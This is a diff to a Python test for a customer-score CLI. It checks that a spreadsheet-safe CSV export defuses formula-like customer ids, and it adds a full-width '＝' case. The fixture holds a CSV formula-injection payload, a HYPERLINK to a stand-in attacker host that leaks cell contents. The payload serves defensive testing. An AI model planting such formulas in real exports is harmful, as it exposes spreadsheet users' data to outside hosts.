@@ -497,18 +497,21 @@ def test_csv_export_for_spreadsheets_defuses_formulas(tmp_path: Path) -> None:
     # Customer ids come from the profile: one that looks like a formula must not run when a
     # marketer opens the export in a spreadsheet (with --spreadsheet-safe); plain export keeps it exact.
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    current = pd.DataFrame({"customer_id": [formula, "-42", "c-1"], "tag_churn_risk": pd.Series(["high"] * 3, dtype="str")})
+    full_width = "\uff1dHYPERLINK(1)"  # ＝: spreadsheets in East Asian locales may read it as =
+    current = pd.DataFrame(
+        {"customer_id": [formula, "-42", "c-1", full_width], "tag_churn_risk": pd.Series(["high"] * 4, dtype="str")}
+    )
     store = ScoreStore(tmp_path)
     events = diff_snapshots(None, current, run_id="run_1", as_of=AS_OF, created_at=CREATED, emit_initial=True)
     store.write_snapshot("run_1", current)
-    store.commit_run(RunRecord("run_1", AS_OF, CREATED, None, 3, {"churn_propensity": "1"}, "r"), events)
+    store.commit_run(RunRecord("run_1", AS_OF, CREATED, None, 4, {"churn_propensity": "1"}, "r"), events)
 
     exact = runner.invoke(app, ["triggers", "export", "--format", "csv", "--store", str(tmp_path)])
-    assert sorted(r["customer_id"] for r in csv.DictReader(io.StringIO(exact.stdout))) == sorted([formula, "-42", "c-1"])
+    assert sorted(r["customer_id"] for r in csv.DictReader(io.StringIO(exact.stdout))) == sorted([formula, "-42", "c-1", full_width])
     safe = runner.invoke(app, ["triggers", "export", "--format", "csv", "--spreadsheet-safe", "--store", str(tmp_path)])
     assert safe.exit_code == 0, safe.output
     rows = list(csv.DictReader(io.StringIO(safe.stdout)))
-    assert sorted(r["customer_id"] for r in rows) == sorted(["'" + formula, "'-42", "c-1"])
+    assert sorted(r["customer_id"] for r in rows) == sorted(["'" + formula, "'-42", "c-1", "'" + full_width])
     assert not any(value.startswith(("=", "+", "-", "@")) for r in rows for value in r.values())
     refused = runner.invoke(app, ["triggers", "export", "--format", "jsonl", "--spreadsheet-safe", "--store", str(tmp_path)])
     assert refused.exit_code == 1 and "csv only" in refused.output
